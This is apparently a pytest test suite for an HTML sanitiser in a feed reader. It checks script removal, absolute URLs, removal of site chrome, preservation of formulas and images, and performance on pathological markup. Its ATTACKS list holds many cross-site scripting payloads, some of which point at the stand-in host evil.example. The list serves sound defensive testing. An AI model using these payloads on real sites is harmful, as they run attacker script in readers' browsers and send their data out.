"""Clean HTML: nothing runs, every URL is absolute, what is worth reading is still there."""

from __future__ import annotations

import html
import re
import time
import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from feeds.reading.body import to_html
from feeds.reading.clean import clean
from feeds.text import first_illegal, legal

BASE = "https://example.org/lab/2020/post.html"
URL_ATTRIBUTES = {"href", "src", "cite", "longdesc", "poster"}


class _Attributes(HTMLParser):
    """Tags and attributes as the standard library's parser sees them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_safe(markup: str) -> None:
    seen = _Attributes(markup)
    assert not {"script", "style", "iframe", "form", "input", "object", "embed", "svg", "link", "meta"} & set(seen.tags)
    for tag, name, value in seen.attributes:
        assert not name.startswith(("on", "data-")), (tag, name)
        assert name != "style"
        if name in URL_ATTRIBUTES:
            parts = urlsplit(value)
            embedded = tag == "img" and value.startswith("data:image/")
            assert embedded or parts.scheme in {"http", "https", "mailto", "tel"}, value
            assert embedded or parts.scheme in {"mailto", "tel"} or parts.hostname, value
        if name == "srcset":
            assert all(urlsplit(c.split()[0]).scheme in {"http", "https"} for c in value.split(", "))
    assert first_illegal(markup) is None
    assert unicodedata.is_normalized("NFC", markup)


# ---------------------------------------------------------------------------------------------------- attacks

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href=' \tvbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='javascript:alert(1)'>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<video poster=javascript:alert(1) src=javascript:alert(2) onplay=x></video>",
    "<q cite='javascript:alert(1)'>x</q>",
    "<svg onload=alert(1)><a xlink:href='javascript:x'><text>x</text></a></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a><mi href=javascript:alert(1)>y</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='//evil.example/\"onmouseover=alert(1)//'></iframe>",
    "<object data=x.swf><embed src=x.swf></object>",
    "<form action=//evil.example><input name=password><button formaction=javascript:x>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/><link rel=import href=x>",
    "<div style='background:url(javascript:x)' data-x=1 onclick=x>y</div>",
    "<style>@import '//evil.example'</style><p style=x>y</p>",
    "<template><script>x</script></template><textarea></textarea><script>y</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>script>alert(1)<</script>/script>",
    "<p/onclick=alert(1)>x",
    "<a href='http://[x'>x</a><a href='http:'>y</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str) -> None:
    """None of the known ways to run or to fetch something gets through."""
    markup = clean(f"<p>before</p>{attack}<p>after</p>", BASE)
    assert_safe(markup)
    assert "before" in markup
    assert not re.search(r"<[^>]*(?:javascript|vbscript|alert)", markup, re.IGNORECASE)


# ---------------------------------------------------------------------------------------------------- URLs


@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("/a/b.png", "https://example.org/a/b.png"),
        ("a.pdf", "https://example.org/lab/2020/a.pdf"),
        ("../x/", "https://example.org/lab/x/"),
        ("//cdn.example.org/a", "https://cdn.example.org/a"),
        ("#part", "https://example.org/lab/2020/post.html#part"),
        ("?q=1&amp;r=2", "https://example.org/lab/2020/post.html?q=1&r=2"),
        ("https://example.net/ä b?c=d|e", "https://example.net/%C3%A4%20b?c=d%7Ce"),
        ("http://example.net/%20a", "http://example.net/%20a"),
        (" /padded\n", "https://example.org/padded"),
        ("mailto:ada@example.org", "mailto:ada@example.org"),
        ("tel:+41-44", "tel:+41-44"),
    ],
)
def test_absolute(reference: str, expected: str) -> None:
    """Each kind of reference as RFC 3986 resolves it, and as a URI."""
    attributes = _Attributes(clean(f'<a href="{reference}">x</a>', BASE)).attributes
    assert attributes == [("a", "href", expected)]


@pytest.mark.parametrize("reference", ["doi:10.5555/x", "ftp://example.org/", "C:\\x.pdf", "", "x:y"])
def test_unfollowable(reference: str) -> None:
    """A link that no reader can follow loses its address, not its text."""
    assert clean(f'<a href="{reference}">text</a>', BASE) == "<a>text</a>"


def test_every_url_attribute() -> None:
    """Not only href and src."""
    markup = clean(
        '<img src="a" srcset="b.png 1x,c.png 2x, /d,e.png 100w" longdesc="f"><video poster="g" src="h">'
        '<source src="i"><track src="j"></video><blockquote cite="k">x</blockquote><del cite="l">y</del>',
        "https://example.org/p/",
    )
    at = "https://example.org/p/"
    values = {f"{tag} {name}": value for tag, name, value in _Attributes(markup).attributes}
    assert values == {
        "img src": at + "a",
        "img srcset": f"{at}b.png 1x, {at}c.png 2x, https://example.org/d,e.png 100w",
        "img longdesc": at + "f",
        "video poster": at + "g",
        "video src": at + "h",
        "video controls": "",
        "source src": at + "i",
        "track src": at + "j",
        "blockquote cite": at + "k",
        "del cite": at + "l",
    }


def test_never_inside_code() -> None:
    """Code that shows HTML is text and stays as written."""
    markup = clean(to_html('`<a href="/x">`\n\n```html\n<img src="/y">\n```'), BASE)
    assert "example.org" not in markup
    assert 'href="/x"' in markup
    assert 'src="/y"' in markup


def test_footnotes_work() -> None:
    """Ids that links lead to stay, the links are absolute, other ids go."""
    markup = clean(to_html('<h2 id="part">T</h2>\n\nSaid.[^é]\n\n[^é]: Because.'), BASE)
    seen = _Attributes(markup)
    ids = {value for _, name, value in seen.attributes if name == "id"}
    targets = {value.partition("#")[2] for _, name, value in seen.attributes if name == "href"}
    assert ids == {"fn:é", "fnref:é"}
    assert targets == {"fn:%C3%A9", "fnref:%C3%A9"}
    assert all(v.startswith(BASE + "#") for _, n, v in seen.attributes if n == "href")


# ---------------------------------------------------------------------------------------------------- what stays


@pytest.mark.parametrize(
    "markup",
    [
        "<p>a <em>b</em> <strong>c</strong> H<sub>2</sub>O x<sup>2</sup> <code>d &lt; e</code></p>",
        '<h2>T</h2>\n<ul>\n<li>a</li>\n</ul>\n<ol start="3"><li>b</li></ol>',
        '<pre><code class="language-python">x &lt; 1\n</code></pre>',
        '<table><thead><tr><th align="right" colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
        "<dl><dt>a</dt><dd>b</dd></dl>",
        '<figure><img src="https://example.org/a.png" alt="b &gt; c" width="3"><figcaption>d</figcaption></figure>',
        '<details open=""><summary>a</summary><p>b</p></details>',
        "<blockquote><p>a<br>b</p></blockquote>\n<hr>",
        '<math display="block"><mfrac><mi>a</mi><msup><mi>b</mi><mn>2</mn></msup></mfrac><mo>=</mo><mn>1</mn></math>',
        r"<p>\(x &lt; y\) and \[z\]</p>",
        '<p lang="de" dir="ltr">Straße</p>',
    ],
)
def test_good_markup_is_untouched(markup: str) -> None:
    """What readers show comes out as it went in."""
    assert clean(markup, BASE) == markup


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>a</p>\n<p> &nbsp;<br></p>\n<p><img alt=x></p>\n<p>b</p>", "<p>a</p>\n<p>b</p>"),
        ('<div class="x" id="y" style="z">a</div>', "<div>a</div>"),
        ('<code class="hljs language-{python} x">a</code>', '<code class="language-python">a</code>'),
        (
            "<math><semantics><mi>a</mi><annotation>a</annotation></semantics></math>",
            "<math><semantics><mi>a</mi></semantics></math>",
        ),
        ("<p><object data=x><p>a</p></object></p>", "<p>a</p>"),
        ("<pre>\n\na</pre>", "<pre>\n\na</pre>"),
        ("<font color=red>a</font><center>b</center>", "ab"),
        ("a<!-- b -->c", "ac"),
        ("a&#0;&#1;b\ud800", "a\ufffd\ufffdb\ufffd"),
        ("Zu\u0308rich <b>\u0338a</b>", "Z\u00fcrich <b>&#x338;a</b>"),
        (
            '<iframe src="https://video.example.org/1"></iframe>',
            '<a href="https://video.example.org/1">https://video.example.org/1</a>',
        ),
        ('<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'),
        (f'x<img src="data:image/png;base64,{"A" * 40_000}">', "x"),
    ],
)
def test_mended_markup(markup: str, expected: str) -> None:
    """What goes, goes without a trace; what stays is well-formed."""
    assert clean(markup, BASE) == expected


# ---------------------------------------------------------------------------------------------------- what scripts do

AT = "https://example.org/lab/2020/"
MATHML = "<math><semantics><msup><mi>x</mi><mn>2</mn></msup><annotation encoding='application/x-tex'>x^2</annotation>"
KATEX = f"<span class=katex><span class=katex-mathml>{MATHML}</semantics></math></span>"
KATEX += "<span class=katex-html aria-hidden=true><span class=base>x<sup>2</sup></span></span></span>"
MATHJAX = "<span class=MathJax_Preview>x2</span><span class=MathJax id=e1><nobr aria-hidden=true>x2</nobr>"
MATHJAX += "<span class=MJX_Assistive_MathML><math><mi>x</mi></math></span></span>"


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (f"<p>So {KATEX}.</p>", r"<p>So \(x^2\).</p>"),
        (f"<span class=katex-display>{KATEX}</span>", r"\[x^2\]"),
        (f'<p>{MATHJAX}<script type="math/tex">x < 2</script></p>', r"<p>\(x &lt; 2\)</p>"),
        (f"<p>{MATHJAX}</p>", "<p><math><mi>x</mi></math></p>"),
        ("<script type='math/tex; mode=display'>% <![CDATA[\na & b %]]></script>", r"\[a &amp; b\]"),
        (
            "<mjx-container><svg><g/></svg><mjx-assistive-mml><math><mi>x</mi></math></mjx-assistive-mml></mjx-container>",
            "<math><mi>x</mi></math>",
        ),
        (r"<p>\(a\) and $$b$$ and $c$</p>", r"<p>\(a\) and $$b$$ and $c$</p>"),
    ],
)
def test_each_formula_is_there_once(markup: str, expected: str) -> None:
    """Of a formula that is typeset, hidden and annotated the TeX stays, else the MathML; TeX as text stays text."""
    assert clean(markup, BASE) == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (
            '<img class=lazy src="data:image/gif;base64,R0lG" data-src="/a.jpg" data-srcset="/a.jpg 1x, b.jpg 2x"'
            ' alt=Lamp width=300px height=auto loading=lazy><noscript><img src="/a.jpg"></noscript>',
            f'<img srcset="https://example.org/a.jpg 1x, {AT}b.jpg 2x" src="https://example.org/a.jpg" alt="Lamp"'
            ' width="300">',
        ),
        ('<img src="data:image/gif;base64,R0lG"><noscript><img src=a.jpg></noscript>', f'<img src="{AT}a.jpg">'),
        ("<img src=a.jpg><noscript><img src=a.jpg></noscript>", f'<img src="{AT}a.jpg">'),
        ("a<noscript>Please switch on JavaScript.</noscript>", "a"),
        (
            "<picture><source data-srcset=a.webp type=image/webp><img src=0.gif data-original=a.jpg></picture>",
            f'<picture><source srcset="{AT}a.webp" type="image/webp"><img src="{AT}a.jpg"></picture>',
        ),
        ('<img srcset="data:image/gif;base64,R0 1x, a.png\n2x">', f'<img src="{AT}a.png" srcset="{AT}a.png 2x">'),
        ("a<img src=t.gif width=1 height=1><img src=t.gif style='display: none'><img src=t width=0 height=0px>", "a"),
        ("<img src=a.png width=1 height=200>", f'<img src="{AT}a.png" width="1" height="200">'),
    ],
)
def test_each_picture_is_there_once(markup: str, expected: str) -> None:
    """Pictures that are loaded late are there with their own address; placeholders and tracking pixels are not."""
    seen, wanted = _Attributes(clean(markup, BASE)), _Attributes(expected)
    assert seen.tags == wanted.tags
    assert sorted(seen.attributes) == sorted(wanted.attributes)


@pytest.mark.parametrize(
    ("frame", "address", "shown"),
    [
        (
            '<iframe title="A &quot;lamp&quot;" src="https://www.youtube-nocookie.com/embed/abcDEF12345?rel=0"></iframe>',
            "https://www.youtube.com/watch?v=abcDEF12345",
            'A "lamp"',
        ),
        ("<iframe data-src=//player.vimeo.com/video/123></iframe>", "https://vimeo.com/123", "https://vimeo.com/123"),
        ("<iframe src=/slides/></iframe>", "https://example.org/slides/", "https://example.org/slides/"),
        ("<object data=a.pdf></object>", AT + "a.pdf", AT + "a.pdf"),
        ("<embed src=a.pdf>", AT + "a.pdf", AT + "a.pdf"),
    ],
)
def test_frames_become_links(frame: str, address: str, shown: str) -> None:
    """What a frame shows is a link away: the film's own page, and by its title where it has one."""
    assert clean(frame, BASE) == f'<a href="{address}">{shown}</a>'


def test_frames_that_nobody_sees_go() -> None:
    """A frame without size is there to count visitors."""
    assert clean("a<iframe src=https://t.example/ns height=0 width=0></iframe><iframe src=about:blank>", BASE) == "a"


def test_check_boxes_are_characters() -> None:
    """What is done and what is open is told apart without a form."""
    markup = clean(
        "<ul><li><input type=checkbox checked disabled> a</li><li><input disabled type='checkbox'/>b</ul>", BASE
    )
    assert markup == "<ul><li>☑ a</li><li>☐ b</li></ul>"


# ---------------------------------------------------------------------------------------------------- around the text


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<h2 id=r>R<a class=headerlink href="#r" title="Permanent link">¶</a></h2>', "<h2>R</h2>"),
        ('<h2><a class=anchor aria-hidden=true href="#r"><svg></svg></a>R</h2>', "<h2>R</h2>"),
        ('<h2><a class=header-anchor href="#r">R</a></h2>', f'<h2><a href="{BASE}#r">R</a></h2>'),
        ('<h2>R<a href="#r">#</a></h2>', "<h2>R</h2>"),
        ('<div class="toc"><div><ul><li>R</ul></div></div><nav><a href=/>Home</a></nav><p>a</p>', "<p>a</p>"),
        (
            "<ul id=markdown-toc><li>R</ul><div role=doc-toc>R</div><h2 id=toc>The toc gene</h2>",
            "<h2>The toc gene</h2>",
        ),
        ("<p>a</p><div class='social-share x'><a href=/s>Share</a><div>b</div></div><p>c</p>", "<p>a</p><p>c</p>"),
        ('<p>a<a href="https://x.example/share"><i class="fa"></i></a><a href=/y> </a></p>', "<p>a</p>"),
        ("<pre><code>a</code></pre><button class=copy>Copy</button>", "<pre><code>a</code></pre>"),
        (
            "<table><tr><td class=linenos><pre>1</pre><td><pre><code>a</code></pre></table>",
            "<table><tbody><tr><td><pre><code>a</code></pre></td></tr></tbody></table>",
        ),
        (
            "<div class='language-python highlighter-rouge'><pre class=highlight><code>a</code></pre></div>",
            '<div class="language-python"><pre><code>a</code></pre></div>',
        ),
        ("<pre class='sourceCode r'><code>a</code></pre>", '<pre class="language-r"><code>a</code></pre>'),
        (
            "<table><tr><td style='text-align: right;'>1</table>",
            '<table><tbody><tr><td align="right">1</td></tr></tbody></table>',
        ),
    ],
)
def test_site_chrome_goes(markup: str, expected: str) -> None:
    """Permanent links, contents, ways through the site and buttons go; headings, code and tables keep their own."""
    assert clean(markup, BASE) == expected


def test_prose_is_no_chrome() -> None:
    """A page whose theme calls it by a name of chrome is still a page."""
    prose = f"<p>{'We lit lamps. ' * 20}</p>"
    assert clean(f"<div class='page toc'><h2>Lamps</h2>{prose}</div>", BASE) == f"<div><h2>Lamps</h2>{prose}</div>"


def test_entries_on_one_page_do_not_disturb_one_another() -> None:
    """Footnotes of two entries have the same ids and different addresses; within an entry an id stands once.

    NetNewsWire opens footnotes whose link is the entry's own address with "#fn…": ids stay as the site has them, so
    that the link leads to the note also where a reader opens the site itself.
    """
    note = '<sup id="fnref1"><a href="#fn1" class="footnote">1</a></sup><p id="fn1">Note.</p><p id="fn1">Again.</p>'
    pages = [clean(note, f"https://example.org/{name}/") for name in "ab"]
    for name, page in zip("ab", pages, strict=True):
        assert f'href="https://example.org/{name}/#fn1" class="footnote"' in page
        assert page.count('id="fn1"') == 1


# ---------------------------------------------------------------------------------------------------- real readers

# What three readers' sanitisers do to an entry, as their source says.  Nothing that is needed to understand a text may
# rest on what they drop.
#  - miniflux knows the elements below.  Of others the text stays; of <script>, <style>, <noscript> and of what is
#    `hidden` not even that.  No class; ids of a, dd, dl, dt, h1-h6, li, ol, sup, ul.  <img> without src goes, 1×1 too.
#  - FreshRSS knows no SVG, <object>, <embed> and no annotation of a formula, and renames ids and classes: footnotes are
#    read in their place, they cannot be jumped to, and the language of code is not seen.
#  - NetNewsWire removes <style>, colours and fonts; a note is `sup > a` whose address is the entry's own with "#fn".
MINIFLUX = set(
    "a abbr acronym audio blockquote br caption cite code dd del dfn dl dt em figcaption figure h1 h2 h3 h4 h5 h6 img"
    " ins kbd li ol p picture pre q rp rt rtc ruby s samp source strong sub sup table td th thead time tr ul var"
    " video".split()
)


class _Kept(HTMLParser):
    """The text, the images and the elements that a reader finds."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""
        self.images: list[str] = []
        self.tags: set[str] = set()
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "img":
            self.images.append(dict(attrs).get("src") or "")

    def handle_data(self, data: str) -> None:
        self.text += data


def test_nothing_rests_on_what_readers_drop() -> None:
    """Text, formulas, notes, films and pictures of an entry are there after the strictest of three readers."""
    post = (
        f"<p>Lamps {KATEX} shine<sup id=fnref1><a href=#fn1>1</a></sup>.</p><input type=checkbox checked> lit"
        "<noscript><img src=a.jpg></noscript><img data-src=b.jpg><iframe src=https://www.youtube.com/embed/abcDEF1>"
        "</iframe><div class=footnotes><ol><li id=fn1>A note.</ol></div>"
    )
    read = _Kept(clean(post, BASE))
    assert read.tags - MINIFLUX == {"div"}
    assert read.text.split() == [
        *("Lamps", r"\(x^2\)", "shine1.☑", "lithttps://www.youtube.com/watch?v=abcDEF1A", "note.")
    ]
    assert read.images == [AT + "a.jpg", AT + "b.jpg"]


# ---------------------------------------------------------------------------------------------------- properties

PIECES = """
<p> </p> <div> </div> <a/href=x> <a/href='javascript:x'> <a/href=#i> </a> <b> </b> <i/id=i> </i> <img/src=y> <img>
<ul> <li> </ul> <table> <tr> <td> </table> <h1> </h1> <h2> </h2> <pre> </pre> <code> </code> <script> </script>
<style> </style> <svg> </svg> <math> <mi> </math> <!-- --> <![CDATA[ ]]> <iframe/src=//e.example> <font> </font>
<object> </object> <select> <option> </select> <template> </template> <textarea> </textarea> <title> </title>
&lt; &amp; &#0; &nbsp; < > " ' text é onclick=x <p/onclick=x> <blockquote> </blockquote> <br> <dd> <dt> <noscript>
</noscript> <img/data-src=z> <span/class=katex> </span> <math><semantics> <annotation> </annotation> <div/class=toc>
<nav> </nav> <a/class=anchor/href=#i> ¶ <input/type=checkbox> <embed/src=e> <script/type=math/tex> <mtext> feeds:drop
<b/id=TOC> """.split()
SOUP = st.lists(st.sampled_from([*PIECES, "\u0338", "\n", "\x00", " "]), max_size=25).map("".join)


@settings(deadline=None)
@given(SOUP | st.text())
def test_any_markup_is_safe(markup: str) -> None:
    """Whatever goes in, what comes out is safe, legal and absolute."""
    assert_safe(clean(markup, BASE))


@settings(deadline=None)
@given(SOUP | st.text())
def test_cleaning_any_markup_twice_changes_nothing(markup: str) -> None:
    """Whatever goes in, what comes out is clean for good."""
    once = clean(markup, BASE)
    assert clean(once, BASE) == once


LETTERS = st.text(st.characters(exclude_categories=("Cc", "Cs", "Cn", "Z")), min_size=1)


@settings(deadline=None)
@given(LETTERS, LETTERS, LETTERS)
def test_any_text_comes_back(heading: str, prose: str, code: str) -> None:
    """Of what stays every letter stays, whatever it looks like."""
    parts = [html.escape(text) for text in (heading, prose, code)]
    markup = "<h2>{}</h2><nav>x</nav><p>{}<img data-src=a></p><pre><code>{}</code></pre>".format(*parts)
    assert _Kept(clean(markup, BASE)).text == "".join(legal(text) for text in (heading, prose, code))


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            "# a|*b*|`c`|[d](/e#f)|![g](h)|- i|> j|    k|<p>l|<b>m|$n$|\n|\n\n| |text|[^1]|[^1]: o".split("|")
        ),
        max_size=20,
    )
)
def test_cleaning_twice_changes_nothing(pieces: list[str]) -> None:
    """Clean HTML stays as it is."""
    once = clean(to_html("".join(pieces)), BASE)
    assert clean(once, BASE) == once


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 100_000,
        "<div><!--</div>-->" * 20_000,
        "<div title='</div>'>" * 20_000,
        "<div><table></div></table>" * 20_000,
        "<p>" + "".join(f"<b id={n}>" for n in range(3_000)) + "</p>" + "<p>x</p>" * 3_000,
        "<p>" + "".join(f"<b id={n}>" for n in range(8)) + "</p>" + "<p>x</p>" * 20_000,
        ">" * 20_000,
        "<img srcset='" + "a, " * 50_000 + "'>",
        "<a href=" + " " * 100_000,
        "<p> " * 50_000,
        "<iframe src " * 30_000,
        "<noscript>" * 30_000 + " " * 100_000,
        "<img src=a>" + " " * 100_000 + "<noscript>" + "<img " * 20_000,
        "<script type=math/tex>" * 20_000,
        "<img data-src=" * 30_000,
        "<p><a href=x>" + " " * 100_000 + "<span class=katex>" * 300,
        "<p><span class=toc>x</span>" * 20_000,
        "<p><object data=x>" + " " * 100_000,
    ],
)
def test_pathological_markup(markup: str) -> None:
    """Nesting and repetition without end take no time without end, and no memory."""
    started = time.perf_counter()
    cleaned = clean(to_html(markup) if markup.startswith(">") else markup, BASE)
    assert time.perf_counter() - started < 5
    assert len(cleaned) < 10 * len(markup) + 1_000


def test_text_of_wild_markup_is_kept() -> None:
    """Where the nesting is too deep to parse, the text survives in paragraphs."""
    assert clean("<div>" * 1_000 + "a &lt; b<br>c <b>d</b>", BASE) == "<p>a &lt; b</p>\n<p>c d</p>"


def test_large_tables_are_kept() -> None:
    """Many tags alone are no reason to give up the markup."""
    table = "<table><tbody>" + "<tr><td>a</td><td><b>b</b></td></tr>" * 2_000 + "</tbody></table>"
    assert clean(table, BASE) == table
